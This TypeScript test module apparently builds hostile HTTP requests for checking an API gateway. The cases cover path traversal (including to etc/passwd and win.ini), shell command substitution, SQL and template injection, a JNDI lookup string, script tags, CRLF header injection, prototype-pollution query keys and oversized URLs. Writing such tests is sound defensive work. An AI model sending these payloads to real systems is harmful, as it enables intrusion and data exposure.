import { INVALID_UTF8 } from './body.cases';
import { call, message, queryCall, type GatewayTarget, type HostileCase } from './case-kit';

const percent = (bytes: number[]) =>
  bytes.map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');

/** Path parameters and whole paths that try to climb out of the route or confuse a decoder. */
export function traversalCases(t: GatewayTarget): HostileCase[] {
  const segments: Record<string, string> = {
    'dot-dot': '..',
    dot: '.',
    'encoded-dot-dot': '%2e%2e',
    'encoded-dot-dot-upper': '%2E%2E',
    'half-encoded-1': '%2e.',
    'half-encoded-2': '.%2e',
    'encoded-slash-climb': '..%2f..%2fusers',
    'encoded-slash-climb-upper': '..%2F..%2F..%2Fadmin',
    'fully-encoded-passwd': '%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    'double-encoded': '%252e%252e%252f',
    'triple-encoded': '%25252e%25252e%25252f',
    backslashes: '..\\..\\windows',
    'encoded-backslashes': '..%5c..%5cwin.ini',
    'unc-like': '%5c%5cevil%5cshare',
    nul: '%00',
    'nul-inside': 'p1%00.json',
    'double-encoded-nul': '%2500',
    'dot-dot-slash-slash': '....%2f%2f....%2f%2f',
    'semicolon-climb': '..;',
    'semicolon-param': 'p1;jsessionid=x',
    'overlong-dots': '%c0%ae%c0%ae%c0%af',
    'overlong-dots-3byte': '%e0%80%ae%e0%80%ae',
    'iis-unicode': '%u002e%u002e',
    'fullwidth-dots': '%ef%bc%8e%ef%bc%8e%ef%bc%8f',
    'division-slash': '..%e2%88%95..',
    'bad-percent': '%zz',
    'lone-percent': '%',
    'percent-at-end': 'p1%2',
    'encoded-query': 'p1%3fadmin=1',
    'encoded-hash': 'p1%23frag',
    'too-long-param': 'a'.repeat(300),
    shell: '$(id)',
    backtick: '%60id%60',
    sqli: "'%20OR%201=1--",
    template: '%7B%7B7*7%7D%7D',
    jndi: '$%7Bjndi:ldap://x/a%7D',
    html: '%3Cscript%3E',
    crlf: '%0d%0aSet-Cookie:%20x=1',
  };
  const cases: HostileCase[] = Object.entries(segments).map(([name, segment]) => ({
    id: `traversal/${name}`,
    category: 'traversal',
    payload: call(t, t.pathMethod, t.pathRoute(segment)),
  }));
  const base = t.pathRoute('p1');
  const paths: Record<string, string> = {
    'climb-literal': `${base}/../../../health/live`,
    'climb-into-other-route': base.replace(/\/[^/]+$/, '/../../health/ready'),
    'dot-segments': base.replace('/api/', '/api/./'),
    'double-slashes': base.replace(/\//g, '//'),
    'trailing-dot': `${base}/.`,
    'backslash-separators': base.replace(/\//g, '\\'),
    'encoded-separators': base.replace(/\//g, '%2f'),
    'mixed-case-api': base.replace('/api/', '/API/'),
    'absolute-uri-same-host': `http://gateway${base}`,
  };
  for (const [name, path] of Object.entries(paths)) {
    cases.push({ id: `traversal/path-${name}`, category: 'traversal', payload: call(t, t.pathMethod, path) });
  }
  return cases;
}

/** Queries with too much in them, or with things a parser might mistake for structure. */
export function queryCases(t: GatewayTarget): HostileCase[] {
  const many = (n: number, name = (i: number) => `p${i}`) =>
    Array.from({ length: n }, (_, i) => `${name(i)}=${i}`).join('&');
  const queries: Record<string, string> = {
    '101-params': many(101),
    '1000-params': many(1000),
    '1000-same-param': many(1000, () => 'limit'),
    'many-empty-separators': `${'&'.repeat(2000)}a=1`,
    'array-brackets': 'limit[]=1&limit[]=2',
    'nested-brackets': 'q[a][b][c][d]=1',
    'proto-brackets': '__proto__[admin]=1',
    'proto-plain': '__proto__=1',
    'constructor-prototype': 'constructor[prototype][admin]=1',
    'constructor-plain': 'constructor=1',
    'duplicate-limit': 'limit=1&limit=2',
    'limit-huge': 'limit=1e400',
    'limit-negative': 'limit=-1',
    'limit-nan': 'limit=NaN',
    'limit-hex': 'limit=0x10',
    'limit-object': 'limit=%7B%7D',
    'q-too-long': `q=${'a'.repeat(3000)}`,
    'bad-percent': 'q=%zz',
    'lone-percent': 'q=%',
    nul: 'q=%00',
    crlf: 'q=%0d%0aX-Injected:%201',
    semicolons: 'q=a;limit=5;offset=1',
    'only-equals': '====',
    'key-without-value': 'q',
    'unicode-plus': 'q=a+b%2Bc',
    'double-question': '?q=1',
    'fragment-in-target': 'q=1#frag',
  };
  const cases: HostileCase[] = Object.entries(queries).map(([name, query]) => ({
    id: `query/${name}`,
    category: 'query',
    payload: queryCall(t, query),
  }));
  for (const [name, bytes] of Object.entries(INVALID_UTF8)) {
    cases.push({
      id: `utf8/query-encoded-${name}`,
      category: 'utf8',
      payload: queryCall(t, `q=${percent(bytes)}`),
    });
    cases.push({
      id: `utf8/path-encoded-${name}`,
      category: 'utf8',
      payload: call(t, t.pathMethod, t.pathRoute(percent(bytes))),
    });
    const raw = Buffer.concat([
      Buffer.from(`${t.pathMethod} ${t.pathRoute('p')}`, 'latin1'),
      Buffer.from(bytes),
      call(t, t.pathMethod, '/').subarray(t.pathMethod.length + 2),
    ]);
    cases.push({ id: `utf8/path-raw-${name}`, category: 'utf8', payload: raw });
  }
  return cases;
}

/** URLs longer than any route takes: answered 414, before or after Node's header budget runs out. */
export function urlSizeCases(t: GatewayTarget): HostileCase[] {
  const long = (n: number) =>
    message(`GET ${t.queryRoute}?q=${'a'.repeat(n)} HTTP/1.1`, [
      'Host: gateway',
      t.auth,
      'Connection: close',
    ]);
  return [
    { id: 'size/url-5k', category: 'size', payload: long(5000) },
    { id: 'size/url-15k', category: 'size', payload: long(15_000) },
    { id: 'size/url-64k', category: 'size', payload: long(65_000) },
    { id: 'size/url-1m-no-end', category: 'size', payload: Buffer.from(`GET /${'a'.repeat(1_000_000)}`) },
    {
      id: 'size/path-segment-5k',
      category: 'size',
      payload: call(t, t.pathMethod, t.pathRoute('a'.repeat(5000))),
    },
  ];
}
